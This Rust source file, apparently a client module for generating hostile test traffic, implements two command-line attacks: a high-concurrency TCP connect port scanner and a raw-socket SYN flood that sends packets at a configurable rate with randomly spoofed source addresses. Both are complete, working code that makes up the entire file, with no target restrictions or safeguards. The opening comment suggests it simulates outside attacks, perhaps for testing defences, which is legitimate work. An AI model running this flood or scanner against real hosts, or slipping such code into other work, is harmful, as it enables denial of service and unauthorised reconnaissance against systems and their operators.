//! What comes from outside and means no good: a scan of all ports, a flood of SYNs. From the client.

use std::{
    io::ErrorKind,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use clap::Args;
use etherparse::{IpNumber, Ipv4Header, Ipv6FlowLabel, Ipv6Header, TcpHeader};
use nix::{
    poll::{PollFd, PollFlags, PollTimeout, poll},
    sys::socket::{
        AddressFamily, SockFlag, SockType, SockaddrStorage, connect, getsockopt, sendto, socket,
        sockopt::SocketError,
    },
};

#[derive(Args)]
pub struct ScanOptions {
    /// Hosts, by their addresses
    #[arg(required = true)]
    addresses: Vec<IpAddr>,
    /// Ports, as first-last
    #[arg(long, default_value = "1-1024")]
    ports: String,
    /// Further ports
    #[arg(long, value_delimiter = ',')]
    also: Vec<u16>,
}

/// How long a port has to answer; a closed one is silent.
const SILENCE: Duration = Duration::from_millis(1500);
/// Connections that are tried at once.
const AT_ONCE: usize = 6000;

/// Prints a line for each port that lets one in: address and port.
pub fn scan(options: &ScanOptions) -> Result<()> {
    let (first, last) = options.ports.split_once('-').context("ports as first-last")?;
    let (first, last): (u16, u16) = (first.parse()?, last.parse()?);
    let mut ports: Vec<u16> = (first..=last).chain(options.also.iter().copied()).collect();
    ports.sort_unstable();
    ports.dedup();
    let targets: Vec<SocketAddr> = options
        .addresses
        .iter()
        .flat_map(|address| ports.iter().map(|port| SocketAddr::new(*address, *port)))
        .collect();
    for some in targets.chunks(AT_ONCE) {
        for open in scan_some(some)? {
            println!("{} {}", open.ip(), open.port());
        }
    }
    eprintln!("{} ports of {} addresses", ports.len(), options.addresses.len());
    Ok(())
}

fn scan_some(targets: &[SocketAddr]) -> Result<Vec<SocketAddr>> {
    let mut open = Vec::new();
    let mut tried: Vec<(OwnedFd, SocketAddr)> = Vec::new();
    for target in targets {
        let family = if target.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
        let flags = SockFlag::SOCK_NONBLOCK | SockFlag::SOCK_CLOEXEC;
        let fd = socket(family, SockType::Stream, flags, None).context("a socket")?;
        match connect(fd.as_raw_fd(), &SockaddrStorage::from(*target)) {
            Ok(()) => open.push(*target),
            Err(nix::errno::Errno::EINPROGRESS) => tried.push((fd, *target)),
            Err(_) => {}
        }
    }
    let end = Instant::now() + SILENCE;
    while !tried.is_empty() && Instant::now() < end {
        let mut polled: Vec<PollFd<'_>> = tried
            .iter()
            .map(|(fd, _)| PollFd::new(std::os::fd::AsFd::as_fd(fd), PollFlags::POLLOUT))
            .collect();
        poll(&mut polled, PollTimeout::from(200_u16)).context("poll")?;
        let ready: Vec<bool> = polled.iter().map(|p| p.any().unwrap_or(false)).collect();
        drop(polled);
        let mut left = Vec::new();
        for ((fd, target), ready) in tried.into_iter().zip(ready) {
            if !ready {
                left.push((fd, target));
            } else if getsockopt(&fd, SocketError).is_ok_and(|error| error == 0) {
                open.push(target);
            }
        }
        tried = left;
    }
    Ok(open)
}

#[derive(Args)]
pub struct FloodOptions {
    /// Whom it is for, with the port
    target: SocketAddr,
    #[arg(long, default_value_t = 200_000)]
    count: u32,
    /// Packets a second
    #[arg(long, default_value_t = 20_000)]
    rate: u32,
    /// The only source; without it each packet has another one
    #[arg(long)]
    source: Option<IpAddr>,
}

/// Sends SYNs at a steady rate, then prints how many went out and in how many seconds.
pub fn flood(options: &FloodOptions) -> Result<()> {
    let v4 = options.target.is_ipv4();
    let domain = if v4 { libc::AF_INET } else { libc::AF_INET6 };
    // SAFETY: socket takes plain numbers; the descriptor it returns is new and owned by nobody else.
    let fd = unsafe {
        let fd = libc::socket(domain, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW);
        if fd < 0 {
            bail!("a raw socket: {}", std::io::Error::last_os_error());
        }
        OwnedFd::from_raw_fd(fd)
    };
    let to = SockaddrStorage::from(SocketAddr::new(options.target.ip(), 0));
    let begun = Instant::now();
    let mut sent = 0_u32;
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    while sent < options.count {
        let due = (begun.elapsed().as_secs_f64() * f64::from(options.rate)) as u32;
        while sent < options.count.min(due.saturating_add(1)) {
            // xorshift: other packets each time, the same ones each run.
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            let packet = syn(options, random)?;
            match sendto(fd.as_raw_fd(), &packet, &to, nix::sys::socket::MsgFlags::empty()) {
                Ok(_) => {}
                Err(error) if std::io::Error::from(error).kind() == ErrorKind::OutOfMemory => {}
                Err(nix::errno::Errno::ENOBUFS) => {}
                Err(error) => return Err(error).context("sending"),
            }
            sent += 1;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    println!("{sent} {:.1}", begun.elapsed().as_secs_f64());
    Ok(())
}

fn syn(options: &FloodOptions, random: u64) -> Result<Vec<u8>> {
    let low = u32::try_from(random & 0xffff_ffff)?;
    let port = u16::try_from(random >> 48)?.max(1024);
    let mut tcp = TcpHeader::new(port, options.target.port(), low, 64240);
    tcp.syn = true;
    let mut packet = Vec::with_capacity(60);
    match (options.target.ip(), options.source) {
        (IpAddr::V4(to), source) => {
            let from = match source {
                Some(IpAddr::V4(from)) => from,
                Some(IpAddr::V6(_)) => bail!("source and target are of two IP versions"),
                // 20.0.0.0/7: nobody's in this picture.
                None => Ipv4Addr::from(0x1400_0000 | low & 0x01ff_ffff),
            };
            let mut ip = Ipv4Header::new(20, 64, IpNumber::TCP, from.octets(), to.octets())?;
            ip.header_checksum = ip.calc_header_checksum();
            tcp.checksum = tcp.calc_checksum_ipv4(&ip, &[])?;
            ip.write(&mut packet)?;
        }
        (IpAddr::V6(to), source) => {
            let from = match source {
                Some(IpAddr::V6(from)) => from,
                Some(IpAddr::V4(_)) => bail!("source and target are of two IP versions"),
                None => Ipv6Addr::from(0x2a00_0000_u128 << 96 | u128::from(random)),
            };
            let ip = Ipv6Header {
                traffic_class: 0,
                flow_label: Ipv6FlowLabel::ZERO,
                payload_length: 20,
                next_header: IpNumber::TCP,
                hop_limit: 64,
                source: from.octets(),
                destination: to.octets(),
            };
            tcp.checksum = tcp.calc_checksum_ipv6(&ip, &[])?;
            ip.write(&mut packet)?;
        }
    }
    tcp.write(&mut packet)?;
    Ok(packet)
}
